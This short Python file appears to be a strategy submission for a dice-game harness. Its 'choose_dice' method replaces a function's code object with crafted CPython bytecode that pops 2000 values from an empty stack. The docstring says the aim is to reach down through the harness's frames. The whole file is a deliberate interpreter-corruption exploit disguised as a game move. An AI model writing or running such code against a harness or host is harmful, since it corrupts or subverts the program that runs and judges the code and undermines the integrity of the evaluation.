"""Run bytecode that pops what it never pushed, down through the frames of the harness."""


def victim():
    return None


def choose_dice(self, view):
    victim.__code__ = victim.__code__.replace(co_stacksize=1, co_code=bytes((151, 0)) + bytes((1, 0)) * 2000 + bytes((83, 0)))
    return victim()
